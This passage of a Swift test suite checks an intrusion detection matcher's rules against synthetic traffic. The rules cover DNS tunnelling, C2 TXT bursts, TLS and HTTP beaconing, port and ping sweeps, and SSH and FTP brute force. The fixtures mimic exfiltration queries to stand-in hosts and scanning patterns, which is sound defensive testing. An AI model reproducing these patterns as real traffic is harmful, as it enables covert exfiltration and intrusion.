                             streamKey: kind == .stream ? StreamKey(flowID: 1, toServer: false) : nil)
        }
    }

    func count(_ id: String, _ events: [TestEvent]) throws -> Int { try run(events).filter { $0 == id }.count }

    /// A base32 label of 52 characters, different for each k.
    static func label(_ k: Int) -> String {
        let alphabet = Array("abcdefghijklmnopqrstuvwxyz234567")
        var x = UInt64(k) &* 0x9E37_79B9_7F4A_7C15 | 1
        return String((0..<52).map { _ in x = x &* 6364136223846793005 &+ 1442695040888963407; return alphabet[Int(x >> 59)] })
    }

    @Test("DNS tunnel: 30 long random names from one host in five minutes fire; 29, repeats of one name, or short names do not")
    func dnsTunnel() throws {
        #expect(try count(Self.dnsTunnel, events(30, spacing: 5, kind: .dns) { dnsQ("\(Self.label($0)).\($0).t.exfil-cdn.example") }) == 1)
        #expect(try count(Self.dnsTunnel, events(29, spacing: 5, kind: .dns) { dnsQ("\(Self.label($0)).\($0).t.exfil-cdn.example") }) == 0)
        #expect(try count(Self.dnsTunnel, events(60, spacing: 5, kind: .dns) { _ in dnsQ("\(Self.label(1)).t.exfil-cdn.example") }) == 0)
        #expect(try count(Self.dnsTunnel, events(60, spacing: 5, kind: .dns) { dnsQ("host\($0).portauthority.example") }) == 0)
        // A hex label under an antivirus look-up domain is not counted; nor are answers.
        #expect(try count(Self.dnsTunnel, events(60, spacing: 1, kind: .dns) { dnsQ("\(Self.label($0)).sophosxl.net") }) == 0)
        #expect(try count(Self.dnsTunnel, events(60, spacing: 1, kind: .dns) { dnsQ("\(Self.label($0)).t.example", ["dns.type": .string("answer")]) }) == 0)
        // The counted rule makes no findings of its own.
        #expect(try count(Self.longLabel, events(5, kind: .dns) { dnsQ("\(Self.label($0)).t.example") }) == 0)
    }

    @Test("TXT burst: 50 different TXT names from one host in five minutes fire; 49, or 50 A queries, do not")
    func txtBurst() throws {
        #expect(try count(Self.txtBurst, events(50, spacing: 2, kind: .dns) { dnsQ("k\($0).c2.example", ["dns.rrtype": .string("TXT")]) }) == 1)
        #expect(try count(Self.txtBurst, events(49, spacing: 2, kind: .dns) { dnsQ("k\($0).c2.example", ["dns.rrtype": .string("TXT")]) }) == 0)
        #expect(try count(Self.txtBurst, events(50, spacing: 2, kind: .dns) { dnsQ("k\($0).c2.example") }) == 0)
        #expect(try count(Self.txtQuery, events(3, kind: .dns) { dnsQ("k\($0).c2.example", ["dns.rrtype": .string("TXT")]) }) == 0)
    }

    @Test("TLS beacon: 12 hellos to one public server and name in 15 minutes fire; 11, a private server, or 12 spread over an hour do not")
    func tlsBeacon() throws {
        let hello = flow(["tls.sni": .string("telemetry-sync.example"), "tls.ja3.hash": .string("ee4aa64cbe029971acab54d92627b181")])
        #expect(try count(Self.tlsBeacon, events(12, spacing: 60, kind: .tls) { _ in hello }) == 1)
        #expect(try count(Self.tlsBeacon, events(24, spacing: 60, kind: .tls) { _ in hello }) == 2)
        #expect(try count(Self.tlsBeacon, events(11, spacing: 60, kind: .tls) { _ in hello }) == 0)
        #expect(try count(Self.tlsBeacon, events(12, spacing: 300, kind: .tls) { _ in hello }) == 0)
        #expect(try count(Self.tlsBeacon, events(12, spacing: 60, kind: .tls) { _ in merged(hello, ["dest_ip": ip("192.168.1.20")]) }) == 0)
        // Twelve different servers are not one beacon.
        #expect(try count(Self.tlsBeacon, events(12, spacing: 60, kind: .tls) { merged(hello, ["dest_ip": ip("198.51.100.\($0 + 1)")]) }) == 0)
        #expect(try count(Self.tlsPublic, events(3, kind: .tls) { _ in hello }) == 0)
    }

    @Test("HTTP beacon: the same request 12 times in 15 minutes fires; 12 different paths do not")
    func httpBeacon() throws {
        let req = flow(["dest_port": .int(80), "http.http_method": .string("GET"), "http.hostname": .string("cdn-check.example"), "http.url": .string("/p.gif")])
        #expect(try count(Self.httpBeacon, events(12, spacing: 60, kind: .http) { _ in req }) == 1)
        #expect(try count(Self.httpBeacon, events(12, spacing: 60, kind: .http) { merged(req, ["http.url": .string("/img/\($0).png")]) }) == 0)
        #expect(try count(Self.httpBeacon, events(12, spacing: 60, kind: .http) { _ in merged(req, ["dest_ip": ip("10.20.0.80")]) }) == 0)
        #expect(try count(Self.httpPublic, events(3, kind: .http) { _ in req }) == 0)
    }

    /// A TCP packet from `src` to `dst:port` with the given flag byte.
    func tcp(_ src: String, _ dst: String, _ port: Int, flags: Int = 2) -> [String: FieldValue] {
        ["src_ip": ip(src), "dest_ip": ip(dst), "src_port": .int(51000), "dest_port": .int(Int64(port)), "proto": .string("TCP"), "tcp.flags": .int(Int64(flags))]
    }

    @Test("Port scan: SYNs to 25 ports in a minute fire; 24 ports, or SYN-ACKs, do not")
    func portScan() throws {
        #expect(try count(Self.portScan, events(25, spacing: 0.1, kind: .packet) { tcp("10.20.0.66", "10.20.0.11", 1000 + $0) }) == 1)
        #expect(try count(Self.portScan, events(24, spacing: 0.1, kind: .packet) { tcp("10.20.0.66", "10.20.0.11", 1000 + $0) }) == 0)
        #expect(try count(Self.portScan, events(25, spacing: 0.1, kind: .packet) { tcp("10.20.0.66", "10.20.0.11", 1000 + $0, flags: 0x12) }) == 0)
        #expect(try count(Self.portScan, events(25, spacing: 5, kind: .packet) { tcp("10.20.0.66", "10.20.0.11", 1000 + $0) }) == 0)
        #expect(try count(Self.syn, events(3, kind: .packet) { tcp("10.20.0.66", "10.20.0.11", 1000 + $0) }) == 0)
    }

    @Test("Service sweep: SSH on 20 hosts in a minute fires; 19 hosts, or a web port, do not")
    func serviceSweep() throws {
        #expect(try count(Self.sweep, events(20, spacing: 0.5, kind: .packet) { tcp("10.20.0.66", "10.20.1.\($0 + 1)", 22) }) == 1)
        #expect(try count(Self.sweep, events(19, spacing: 0.5, kind: .packet) { tcp("10.20.0.66", "10.20.1.\($0 + 1)", 22) }) == 0)
        #expect(try count(Self.sweep, events(20, spacing: 0.5, kind: .packet) { tcp("10.20.0.66", "10.20.1.\($0 + 1)", 443) }) == 0)
        #expect(try count(Self.synService, events(3, kind: .packet) { tcp("10.20.0.66", "10.20.1.\($0 + 1)", 22) }) == 0)
    }

    @Test("Password guessing on the wire: 30 connections to one SSH server in a minute fire; 29 do not")
    func networkBruteForce() throws {
        #expect(try count(Self.bruteForceNet, events(30, spacing: 1.5, kind: .packet) { _ in tcp("192.0.2.44", "10.20.0.2", 22) }) == 1)
        #expect(try count(Self.bruteForceNet, events(29, spacing: 1.5, kind: .packet) { _ in tcp("192.0.2.44", "10.20.0.2", 22) }) == 0)
        #expect(try count(Self.bruteForceNet, events(30, spacing: 1.5, kind: .packet) { _ in tcp("192.0.2.44", "10.20.0.2", 443) }) == 0)
    }

    @Test("Ping sweep: echo requests to 30 hosts in a minute fire; 29 hosts, or echo replies, do not")
    func pingSweep() throws {
        func echo(_ k: Int, type: Int = 8) -> [String: FieldValue] {
            ["src_ip": ip("10.20.0.66"), "dest_ip": ip("10.20.1.\(k + 1)"), "proto": .string("ICMP"), "icmp_type": .int(Int64(type)), "icmp_code": .int(0)]
        }
        #expect(try count(Self.pingSweep, events(30, spacing: 0.2, kind: .packet) { echo($0) }) == 1)
        #expect(try count(Self.pingSweep, events(29, spacing: 0.2, kind: .packet) { echo($0) }) == 0)
        #expect(try count(Self.pingSweep, events(30, spacing: 0.2, kind: .packet) { echo($0, type: 0) }) == 0)
        #expect(try count(Self.icmpEcho, events(3, kind: .packet) { echo($0) }) == 0)
    }

    @Test("FTP brute force: five 530 replies to one client in a minute fire; four, or 230 replies, do not")
    func ftpBruteForce() throws {
        let reply = flow(["src_ip": ip("10.20.0.5"), "src_port": .int(21), "dest_ip": ip("192.0.2.44"), "dest_port": .int(50123)])
        #expect(try count(Self.ftpBrute, events(5, spacing: 3, kind: .stream, payload: { _ in "530 Login incorrect.\r\n" }) { _ in reply }) == 1)
        #expect(try count(Self.ftpBrute, events(4, spacing: 3, kind: .stream, payload: { _ in "530 Login incorrect.\r\n" }) { _ in reply }) == 0)
        #expect(try count(Self.ftpBrute, events(5, spacing: 3, kind: .stream, payload: { _ in "230 Login successful.\r\n" }) { _ in reply }) == 0)
        #expect(try count(Self.ftpRefused, events(3, spacing: 3, kind: .stream, payload: { _ in "530 Login incorrect.\r\n" }) { _ in reply }) == 0)
    }

    func run(_ events: [TestEvent]) throws -> [String] {
        let matcher = try Matcher(Self.compiled)
        var sink = CollectingSink()
        for e in events { _ = matcher.process(e, input: "seq", sink: &sink) }
        return sink.findings.map(\.id)
    }

    @Test("SSH brute force: five failures in a minute fire, four do not; the single failures stay quiet")
    func bruteForce() throws {
        func failures(_ n: Int, spacing: Int64) -> [TestEvent] {
            (0..<n).map { k in
                TestEvent(kind: .syslog, fields: ["syslog.app": .string("sshd"), "syslog.host": .string("gw"),
                                                  "syslog.msg": .string("Failed password for root from 192.0.2.44 port 4000\(k) ssh2")],
                          timestamp: Timestamp(seconds: 1_795_780_800 + Int64(k) * spacing, nanos: 0))
            }
        }
        #expect(try run(failures(5, spacing: 5)) == ["7a4e2b10-93c8-4d1e-8f60-5b2d1c9e4a02"])
        #expect(try run(failures(4, spacing: 5)) == [])
        #expect(try run(failures(5, spacing: 30)) == [])
    }

    @Test("GNSS jamming seen by two receivers within ten minutes fires the area alert; one receiver does not")
    func areaJamming() throws {
        func collapse(_ receiver: String, at s: Int64) -> TestEvent {
            TestEvent(kind: .gnss, fields: gnss(["gnss.receiver": .string(receiver), "gnss.cn0_drop_db": .double(20),
                                                 "gnss.sats_strong": .int(0), "gnss.group_complete": .bool(true)]),
                      timestamp: Timestamp(seconds: 1_795_780_800 + s, nanos: 0))
        }
        let area = "3d9b2c74-5086-4e3a-9c2f-7b4a8e9d0c09"
        #expect(try run([collapse("ship-a:GP", at: 0), collapse("ship-b:GN", at: 240)]).filter { $0 == area }.count == 1)
        #expect(try run([collapse("ship-a:GP", at: 0), collapse("ship-a:GP", at: 240)]).filter { $0 == area }.isEmpty)
        #expect(try run([collapse("ship-a:GP", at: 0), collapse("ship-b:GN", at: 1200)]).filter { $0 == area }.isEmpty)
    }
}
